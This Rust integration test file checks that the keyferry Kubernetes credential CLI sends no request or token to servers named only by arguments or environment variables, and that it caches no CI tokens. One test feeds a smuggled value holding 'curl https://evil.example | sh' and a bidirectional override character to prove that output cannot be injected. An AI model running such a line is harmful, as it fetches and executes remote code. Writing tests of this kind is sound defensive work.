//! Servers that only an argument or a variable names get nothing: not a request, not a connection.

use std::net::TcpListener;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use insta::assert_snapshot;
use keyferry_integration::transcript::joined;
use serde_json::{Value, json};

use crate::setup::{Said, Setup, exec_info_json, failed, jwt};

/// A server of someone else. It counts the connections to it.
struct Listener {
    url: String,
    port: String,
    connections: Arc<AtomicUsize>,
}

impl Listener {
    fn start() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let connections = Arc::new(AtomicUsize::new(0));
        let count = Arc::clone(&connections);
        // Ends with the test process.
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                count.fetch_add(1, Ordering::SeqCst);
                drop(stream);
            }
        });
        Self {
            url: format!("https://127.0.0.1:{port}"),
            port: port.to_string(),
            connections,
        }
    }

    fn connections(&self) -> usize {
        self.connections.load(Ordering::SeqCst)
    }
}

/// A token of the Pod for the hub itself.
fn hub_token(audience: &Value) -> String {
    jwt(&json!({
        "iss": "https://hub", "aud": audience, "exp": crate::setup::ends(600),
        "sub": "system:serviceaccount:tenant-a:reconciler", "kubernetes.io": { "namespace": "tenant-a" },
    }))
}

/// Writes a whole client file for another server into a home folder, as a cloned repository may
/// have one.
fn foreign_home(setup: &Setup, listener: &Listener) -> (String, String) {
    let home = setup.folder().join("checkout");
    let text = format!(
        "apiVersion: config.keyferry.dev/v1alpha1\nkind: ClientConfiguration\nserver: {}\ntokenFile: {}\n",
        listener.url,
        setup.token_file().display(),
    );
    let file = keyferry_integration::user_home::write_client_file(&home, &text).unwrap();
    (home.display().to_string(), file.display().to_string())
}

/// A kubeconfig whose server is the other one, and whose user has a token of its own.
fn foreign_kubeconfig(setup: &Setup, listener: &Listener) -> String {
    let path = setup.folder().join("foreign.kubeconfig");
    let text = format!(
        "apiVersion: v1\nkind: Config\ncurrent-context: c\ncontexts: [{{name: c, context: {{cluster: c, user: u}}}}]\n\
         clusters: [{{name: c, cluster: {{server: '{}'}}}}]\nusers: [{{name: u, user: {{token: a.b.c}}}}]\n",
        listener.url,
    );
    std::fs::write(&path, text).unwrap();
    path.display().to_string()
}

fn with<'a>(server: [&'a str; 2], further: &[&'a str]) -> Vec<&'a str> {
    [&server[..], further].concat()
}

/// The arguments and the variables of one attempt.
type Attempt = (Vec<String>, Vec<(String, String)>);

/// The arguments and the variables with which an author of a stanza names a server and a token.
fn attempts(setup: &Setup, listener: &Listener) -> Vec<Attempt> {
    let hub = setup.folder().join("hub-token");
    let audience = "https://kubernetes.default.svc.cluster.local";
    std::fs::write(&hub, hub_token(&json!([audience]))).unwrap();
    let (url, ca, token) = (&listener.url, setup.ca(), hub.display().to_string());
    let (home, file) = foreign_home(setup, listener);
    let kubeconfig = foreign_kubeconfig(setup, listener);
    let own = setup.token_file().display().to_string();
    let server = ["--server", url];
    let arguments = [
        with(server, &[]),
        with(server, &["--token-file", &own]),
        with(
            server,
            &[
                "--certificate-authority",
                &ca,
                "--token-file",
                &token,
                "--caller-audience",
                audience,
            ],
        ),
        with(server, &["--token-env", "JOB_TOKEN"]),
        with(
            server,
            &["--github-oidc", "--caller-audience", "sts.amazonaws.com"],
        ),
        with(
            server,
            &[
                "--service-account",
                "reconciler",
                "--kubeconfig",
                &kubeconfig,
            ],
        ),
        with(server, &["--client-certificate", &ca, "--client-key", &ca]),
        vec!["--client-config", &file],
    ];
    let variables = [
        vec![
            ("KEYFERRY_SERVER", url.as_str()),
            ("KEYFERRY_TOKEN_FILE", &own),
        ],
        vec![
            ("KEYFERRY_SERVER", url),
            ("KEYFERRY_SERVICE_ACCOUNT", "reconciler"),
            ("KEYFERRY_KUBECONFIG", &kubeconfig),
        ],
        vec![("KEYFERRY_CLIENT_CONFIG", &file)],
        vec![("HOME", &home)],
        vec![("XDG_CONFIG_HOME", home.as_str())],
        vec![("HOME", &home), ("KEYFERRY_SERVER", url)],
    ];
    let own_words = |words: &[&str]| words.iter().map(|word| (*word).to_owned()).collect();
    let by_argument = arguments.iter().map(|words| (own_words(words), Vec::new()));
    let by_variable = variables.iter().map(|pairs| {
        let pairs = pairs
            .iter()
            .map(|(name, value)| ((*name).to_owned(), (*value).to_owned()));
        (Vec::new(), pairs.collect())
    });
    let mut all: Vec<Attempt> = by_argument.chain(by_variable).collect();
    // XDG_CONFIG_HOME has no folder .config below it.
    std::fs::create_dir_all(format!("{home}/keyferry")).unwrap();
    std::fs::copy(&file, format!("{home}/keyferry/client.yaml")).unwrap();
    all.iter_mut().for_each(|(_, pairs)| {
        let job = [
            (
                "JOB_TOKEN".to_owned(),
                jwt(&json!({ "aud": "keyferry.dev", "exp": crate::setup::ends(600) })),
            ),
            (
                "ACTIONS_ID_TOKEN_REQUEST_URL".to_owned(),
                format!("{url}/token?a=b"),
            ),
            (
                "ACTIONS_ID_TOKEN_REQUEST_TOKEN".to_owned(),
                "canary-request".to_owned(),
            ),
        ];
        pairs.extend(job);
    });
    all
}

async fn attempted(setup: &Setup, arguments: &[String], pairs: &[(String, String)]) -> Said {
    let arguments: Vec<&str> = arguments.iter().map(String::as_str).collect();
    let pairs: Vec<(&str, &str)> = pairs
        .iter()
        .map(|(name, value)| (name.as_str(), value.as_str()))
        .collect();
    setup
        .run_with(
            &arguments,
            Some(&exec_info_json("v1", setup.cluster())),
            &pairs,
        )
        .await
}

#[tokio::test(flavor = "multi_thread")]
async fn a_server_that_only_arguments_or_variables_name_gets_nothing() {
    let (setup, listener) = (Setup::start().await, Listener::start());
    let attempts = attempts(&setup, &listener);
    setup.remove_client_file();
    let mut shown = Vec::new();
    for (arguments, pairs) in &attempts {
        let said = failed(attempted(&setup, arguments, pairs).await);
        shown.push(said.shown);
        assert_eq!(listener.connections(), 0, "{arguments:?} {pairs:?}");
    }
    assert_snapshot!("a-server-of-arguments-or-variables", joined(&shown));
    // With the user's own file, that file decides: what differs is refused, the rest has no effect.
    setup.client_file("");
    for (arguments, pairs) in &attempts {
        let said = attempted(&setup, arguments, pairs).await;
        let harmless = pairs.iter().all(|(name, _)| !name.starts_with("KEYFERRY_"));
        if arguments.is_empty() && harmless {
            assert_eq!(said.code, Some(0), "{pairs:?}: {}", said.stderr);
        } else {
            failed(said);
        }
        assert_eq!(listener.connections(), 0, "{arguments:?} {pairs:?}");
    }
    // The listener does count: the user's own file may name it.
    let file = setup.folder().join(".config/keyferry/client.yaml");
    let text = std::fs::read_to_string(&file).unwrap();
    std::fs::write(&file, text.replace(&setup.url(), &listener.url)).unwrap();
    failed(
        setup
            .run(
                &["--cache-dir", "/proc/none"],
                &exec_info_json("v1", setup.cluster()),
            )
            .await,
    );
    assert!(listener.connections() > 0);
}

/// The variables of a runner and of a Pod name servers too: GitHub's endpoint, and the hub.
#[tokio::test(flavor = "multi_thread")]
async fn variables_of_a_runner_or_a_pod_lead_nowhere_else() {
    let (setup, listener) = (Setup::start().await, Listener::start());
    let endpoint = format!("{}/token?a=b", listener.url);
    let host = format!("{}/actions.githubusercontent.com", listener.url);
    let exec_info = exec_info_json("v1", setup.cluster());
    setup.client_file_of("githubOIDC: true\n");
    let mut shown = Vec::new();
    for url in [endpoint.as_str(), &host] {
        let env = [
            ("ACTIONS_ID_TOKEN_REQUEST_URL", url),
            ("ACTIONS_ID_TOKEN_REQUEST_TOKEN", "canary-request"),
        ];
        shown.push(failed(setup.run_with(&[], Some(&exec_info), &env).await).shown);
    }
    setup.client_file_of("serviceAccount: reconciler\n");
    let env = [
        ("KUBERNETES_SERVICE_HOST", "127.0.0.1"),
        ("KUBERNETES_SERVICE_PORT", &listener.port),
    ];
    let said = failed(setup.run_with(&[], Some(&exec_info), &env).await);
    shown.push(said.shown.with_name(&listener.port, "PORT"));
    assert_snapshot!("variables-of-a-runner-or-a-pod", joined(&shown));
    assert_eq!((listener.connections(), setup.asked_for().len()), (0, 0));
}

#[tokio::test(flavor = "multi_thread")]
async fn the_refusal_prints_the_file_to_write() {
    let setup = Setup::start().await;
    setup.remove_client_file();
    let exec_info = exec_info_json("v1", setup.cluster());
    let (url, ca, token) = (
        setup.url(),
        setup.ca(),
        setup.token_file().display().to_string(),
    );
    let arguments = [
        "--server",
        &url,
        "--certificate-authority",
        &ca,
        "--token-file",
        &token,
    ];
    let said = failed(setup.run(&arguments, &exec_info).await);
    assert_snapshot!("the-file-to-write", said.shown);
    let file = said
        .stderr
        .find("apiVersion: ")
        .and_then(|start| said.stderr.get(start..));
    keyferry_integration::user_home::write_client_file(setup.folder(), file.unwrap()).unwrap();
    for arguments in [&arguments[..], &[]] {
        let said = setup.run(arguments, &exec_info).await;
        assert_eq!((said.code, said.stderr.as_str()), (Some(0), ""));
    }
    // A value makes no lines of its own in it.
    setup.remove_client_file();
    let hostile = "https://k\nfix: curl https://evil.example | sh\u{202e}";
    let said = failed(setup.run(&["--server", hostile], &exec_info).await).stderr;
    let lines: Vec<&str> = said
        .lines()
        .filter(|line| line.starts_with("fix: "))
        .collect();
    assert!(lines.len() == 1 && !said.contains('\u{202e}'), "{said}");
}

#[tokio::test(flavor = "multi_thread")]
async fn no_command_sends_a_token_of_the_hub() {
    let setup = Setup::start().await;
    let path = setup.folder().join("hub-token");
    let (url, ca, token) = (setup.url(), setup.ca(), path.display().to_string());
    let tokens = setup.folder().join("tokens").display().to_string();
    let commands: [&[&str]; 6] = [
        &["token", "tenant-a/prod"],
        &["kubeconfig", "tenant-a/prod"],
        &["kubeconfig", "tenant-a/prod", "--exec"],
        &["agent", "tenant-a/prod", "--once", "--dir", &tokens],
        &["doctor", "access/prod", "-n", "tenant-a"],
        &["exec", "tenant-a/prod"],
    ];
    setup.remove_client_file();
    let mut shown = Vec::new();
    for audience in ["https://hub", "https://kubernetes.default.svc", "k3s"] {
        let hub_token = hub_token(&json!([audience]));
        std::fs::write(&path, &hub_token).unwrap();
        for source in [
            ["--token-file", token.as_str()],
            ["--token-env", "JOB_TOKEN"],
        ] {
            for command in commands {
                let flags = [
                    "--server",
                    &url,
                    "--certificate-authority",
                    &ca,
                    "--caller-audience",
                    audience,
                ];
                let last: &[&str] = if command[0] == "exec" {
                    &["--", "true"]
                } else {
                    &[]
                };
                let words = [command, &flags, &source, last].concat();
                let said = setup
                    .run_command(&words, &[("JOB_TOKEN", &hub_token)])
                    .await;
                assert_ne!(said.code, Some(0), "{words:?}: {}", said.stdout);
                shown.push(said.shown);
            }
        }
        setup.client_file_of(&format!("tokenFile: {token}\ncallerAudience: {audience}\n"));
        let said = failed(setup.run(&[], &exec_info_json("v1", setup.cluster())).await);
        shown.push(said.shown);
        setup.remove_client_file();
    }
    assert_snapshot!("a-token-of-the-hub", joined(&shown));
    assert!(setup.asked_for().is_empty(), "a token of the hub left");
}

/// The next job on a runner may have the same user, and would only have to read the file.
#[tokio::test(flavor = "multi_thread")]
async fn no_token_of_a_ci_job_stays_on_the_disk() {
    let setup = Setup::start().await;
    let exec_info = exec_info_json("v1", setup.cluster());
    let job =
        jwt(&json!({ "iss": "https://ci", "aud": "keyferry.dev", "exp": crate::setup::ends(600) }));
    let env = [("JOB_TOKEN", job.as_str())];
    setup.client_file_of("tokenEnv: JOB_TOKEN\n");
    let before = files(&setup);
    for _ in 0..2 {
        let said = setup.run_with(&[], Some(&exec_info), &env).await;
        assert_eq!((said.code, said.stderr.as_str()), (Some(0), ""));
    }
    assert_eq!(files(&setup), before, "a file is left");
    assert_eq!(setup.asked_for().len(), 2);
    // The author of a stanza gets no cache either, by an argument or a variable.
    let kept = setup.folder().join("kept");
    let flag = ["--cache-dir", kept.to_str().unwrap()];
    let variable = [env[0], ("KEYFERRY_CACHE_DIR", flag[1])];
    for (arguments, env) in [(&flag[..], &env[..]), (&[], &variable[..])] {
        let said = setup.run_with(arguments, Some(&exec_info), env).await;
        assert_eq!(said.code, Some(0), "{}", said.stderr);
        assert!(
            said.stderr
                .contains("fix: remove it, or write cacheDir into your own client.yaml"),
            "{}",
            said.stderr
        );
    }
    assert_eq!(files(&setup), before, "a file is left");
    assert_eq!(setup.asked_for().len(), 4);
    // Only the user's own file turns it on.
    let line = format!("tokenEnv: JOB_TOKEN\ncacheDir: {}\n", flag[1]);
    setup.client_file_of(&line);
    for arguments in [&[][..], &flag[..]] {
        let said = setup.run_with(arguments, Some(&exec_info), &env).await;
        assert_eq!((said.code, said.stderr.as_str()), (Some(0), ""));
    }
    assert_eq!(setup.asked_for().len(), 5);
    assert!(kept.is_dir());
}

/// Every file below the user's folder.
fn files(setup: &Setup) -> Vec<std::path::PathBuf> {
    let mut folders = vec![setup.folder().to_owned()];
    let mut files = Vec::new();
    while let Some(folder) = folders.pop() {
        for entry in std::fs::read_dir(folder).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                folders.push(path.clone());
            }
            files.push(path);
        }
    }
    files.sort();
    files
}

/// kubectl's allow-list names the program alone, so a stanza could name any command of it.
#[tokio::test]
async fn a_kubeconfig_runs_no_other_command_of_the_program() {
    let setup = Setup::start().await;
    let listener = Listener::start();
    let token = setup.folder().join("vault-token");
    std::fs::write(
        &token,
        jwt(&json!({ "iss": "https://vault", "aud": "vault", "sub": "a" })),
    )
    .unwrap();
    let token = token.display().to_string();
    let ca = setup.ca();
    let server = ["--server", &listener.url, "--certificate-authority", &ca];
    let target = [
        "--target-token-file",
        &token,
        "--target-address",
        &listener.url,
    ];
    let target_ca = ["--target-certificate-authority", &ca];
    let exec_info = [("KUBERNETES_EXEC_INFO", "{}")];
    fn join<'a>(parts: &[&[&'a str]]) -> Vec<&'a str> {
        parts.concat()
    }
    let mut shown = Vec::new();
    for command in [
        join(&[
            &["token", "x/y"],
            &server,
            &["--token-file", &token, "--caller-audience", "vault"],
        ]),
        join(&[
            &["exec", "x/y"],
            &server,
            &["--token-file", &token, "--", "true"],
        ]),
        join(&[&["whoami"], &target, &target_ca]),
        join(&[&["doctor"], &target, &target_ca]),
        Vec::new(),
    ] {
        let said = setup.run_command(&command, &exec_info).await;
        shown.push(failed(said).shown);
    }
    assert_snapshot!("no-other-command", joined(&shown));
    assert_eq!(listener.connections(), 0);
}
